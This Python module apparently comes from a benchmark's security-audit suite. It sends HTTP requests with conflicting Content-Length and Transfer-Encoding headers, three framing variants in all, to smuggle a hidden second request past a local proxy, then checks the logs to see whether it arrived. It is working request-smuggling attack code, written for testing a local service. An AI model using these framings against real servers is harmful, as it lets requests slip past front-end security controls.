"""Hides a second call in a first one that has both a length and chunked coding."""

from pacabench.audit.attacks.kit import Found, Given, found, keyed, raw_http, reported, smuggler

_WAYS = (
    "Content-Length: {length}\r\nTransfer-Encoding: chunked\r\n",
    "Transfer-Encoding: chunked\r\nContent-Length: {length}\r\n",
    "Content-Length: {length}\r\nTransfer-Encoding: identity, chunked\r\n",
)


def attack(given: Given) -> Found:
    """See above."""
    port, word = given["lane_port"], f"smuggled-{given['nonce']}"
    hidden = smuggler(word)
    body = b"0\r\n\r\n" + hidden
    answers = [raw_http(port, _request(way.format(length=len(body)), body))[:120] for way in _WAYS]
    arrived = [line for line in reported(port, word) if f"/{word}" in line.split(" HTTP/")[0]]
    return found(bool(arrived), arrived=arrived, answers=answers)


def _request(framing: str, body: bytes) -> bytes:
    head = f"POST /openai/v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1:8080\r\n{keyed()}"
    return f"{head}Content-Type: application/json\r\n{framing}\r\n".encode() + body
